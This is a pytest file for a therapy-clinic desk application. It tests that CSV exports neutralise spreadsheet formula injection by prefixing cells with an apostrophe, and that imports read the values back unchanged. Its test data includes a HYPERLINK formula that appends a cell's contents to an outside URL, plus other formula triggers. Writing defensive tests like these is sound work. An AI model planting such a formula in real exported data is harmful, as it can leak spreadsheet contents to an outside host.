"""Exports never hand a spreadsheet a formula to run, and imports read them back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from opcc_desk.domain import spreadsheet
from opcc_desk.services import people, transfer
from opcc_desk.services.context import ServiceContext
from opcc_desk.services.transfer import Kind

CLIENT_HEADER = (
    "id,first_name,last_name,preferred_name,email,phone,address,language,client_type,concerns,"
    "modality,consent_to_contact,notes"
)
THERAPIST_HEADER = (
    "id,first_name,last_name,email,phone,languages,approaches,client_types,age_groups,"
    "modalities,fee,accepting,bio"
)
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"Open")'


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_cells_are_exported_inert_and_read_back_unchanged(
    ctx: ServiceContext, tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(CLIENT_HEADER.split(","))
        writer.writerow(
            ["C-1", "Ana", "O'Brien", "@SUM(1+1)", "", "+33 1 23 45 67 89", "+ back door",
             "en", "individual", "anxiety", "virtual", "yes", FORMULA]
        )  # fmt: skip
        writer.writerow(
            ["C-2", "Ben", "Lee", "'tis", "ben@example.ca", "", "'=literal", "en", "individual",
             "anxiety", "virtual", "yes", "-5 out of 10, she says"]
        )  # fmt: skip
    transfer.import_file(ctx, Kind.CLIENTS, source)
    ana = people.get_client(ctx, "C-1")
    assert (ana.notes, ana.preferred_name, ana.address) == (FORMULA, "@SUM(1+1)", "+ back door")
    assert ana.phone == "+33 1 23 45 67 89"
    ben = people.get_client(ctx, "C-2")
    assert (ben.address, ben.notes) == ("=literal", "-5 out of 10, she says")

    first = tmp_path / "out-1.csv"
    transfer.export_file(ctx, Kind.CLIENTS, first)
    exported = {row["id"]: row for row in rows(first)}
    assert exported["C-1"]["notes"] == "'" + FORMULA
    assert exported["C-1"]["preferred_name"] == "'@SUM(1+1)"
    assert exported["C-1"]["phone"] == "'+33 1 23 45 67 89"
    assert exported["C-1"]["address"] == "'+ back door"
    assert exported["C-1"]["last_name"] == "O'Brien"
    assert exported["C-2"]["preferred_name"] == "'tis"
    assert exported["C-2"]["address"] == "'=literal"
    assert exported["C-2"]["notes"] == "'-5 out of 10, she says"
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in exported.values()
        for value in row.values()
    )

    report = transfer.import_file(ctx, Kind.CLIENTS, first)
    assert report.updated == [] and report.unchanged == 2
    assert people.get_client(ctx, "C-1").notes == FORMULA
    second = tmp_path / "out-2.csv"
    transfer.export_file(ctx, Kind.CLIENTS, second)
    assert first.read_bytes() == second.read_bytes()


def test_therapist_phone_and_bio_round_trip(ctx: ServiceContext, tmp_path: Path) -> None:
    source = tmp_path / "t.csv"
    source.write_text(
        THERAPIST_HEADER + "\n"
        "T-1,Ruth,Amos,,'+1 416 555 0101,en,cbt,individual,adult,virtual,120,yes,'-= calm =-\n",
        encoding="utf-8",
    )
    transfer.import_file(ctx, Kind.THERAPISTS, source)
    ruth = people.get_therapist(ctx, "T-1")
    assert (ruth.phone, ruth.bio) == ("(416) 555-0101", "-= calm =-")
    first = tmp_path / "t1.csv"
    transfer.export_file(ctx, Kind.THERAPISTS, first)
    assert rows(first)[0]["bio"] == "'-= calm =-"
    assert rows(first)[0]["phone"] == "(416) 555-0101"
    transfer.import_file(ctx, Kind.THERAPISTS, first)
    second = tmp_path / "t2.csv"
    transfer.export_file(ctx, Kind.THERAPISTS, second)
    assert first.read_bytes() == second.read_bytes()


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1 416", "-0", "@x", "\tx", "\rx", "'=x", "''+x", "'x", "x'=", "", "'", "O'Neil"],
)
def test_escape_then_unescape_gives_the_value_back(value: str) -> None:
    assert spreadsheet.unescape(spreadsheet.escape(value)) == value
    assert not spreadsheet.escape(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_waitlist_export_neutralises_a_formula_note(ctx: ServiceContext, tmp_path: Path) -> None:
    from opcc_desk.domain.enums import Priority
    from opcc_desk.services import waitlist

    source = tmp_path / "c.csv"
    source.write_text(
        CLIENT_HEADER + "\nC-1,Ana,Lee,,ana@example.ca,,,en,individual,anxiety,virtual,yes,\n",
        encoding="utf-8",
    )
    transfer.import_file(ctx, Kind.CLIENTS, source)
    waitlist.add_to_waitlist(ctx, "C-1", Priority.NORMAL, FORMULA)
    path = tmp_path / "waitlist.csv"
    waitlist.export_waitlist(ctx, path)
    assert rows(path)[0]["note"] == "'" + FORMULA
